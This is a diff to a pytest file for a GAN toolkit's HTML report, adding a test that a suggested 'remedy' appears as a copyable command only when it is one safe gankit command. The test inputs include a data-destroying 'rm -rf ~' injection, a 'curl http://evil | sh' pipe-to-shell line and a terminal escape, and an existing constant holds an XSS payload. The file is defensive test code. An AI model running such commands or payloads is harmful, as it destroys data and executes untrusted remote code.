@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import html
 import re
 from base64 import b64encode
 from hashlib import sha256
@@ -13,7 +14,7 @@ import pytest
 from gankit.base.errors import UserError
 from gankit.evaluation.card import Figure
 from gankit.reporting import Setting, Shown, is_ours, page
-from tests.reporting.material import COLLAPSE, entries, facts, png, read, values
+from tests.reporting.material import COLLAPSE, Read, entries, facts, png, read, values
 
 HOSTILE = "</script><script>alert(1)</script><img src=x onerror=alert(1)>\"'&<!--"
 
@@ -55,6 +56,23 @@ def test_everything_that_is_known_stands_on_the_page() -> None:
         "Channels.",
     ):
         assert words in found.words
+
+
+@pytest.mark.parametrize(
+    ("remedy", "copied"),
+    [
+        ("gankit train lsgan --data 'my photos'", "gankit train lsgan --data 'my photos'"),
+        ("gankit train gan; rm -rf ~", "gankit train 'gan;' rm -rf '~'"),
+        ("curl http://evil | sh", None),
+        ("use more 'data", None),
+        ("gankit train\x1b[2J", None),
+    ],
+)
+def test_a_remedy_is_copied_only_as_one_command_of_gankit_s(remedy: str, copied: str | None) -> None:
+    text = page(facts(entries=[{"step": 9, "verdict": {**COLLAPSE, "remedy": remedy}}], command=None))
+    found = re.findall(r'<code id="remedy-0">(.*?)</code>', text)
+    assert [html.unescape(one) for one in found] == ([copied] if copied else [])
+    assert copied or remedy in Read(text).words
 
 
 def test_what_is_not_there_leaves_no_empty_section() -> None:
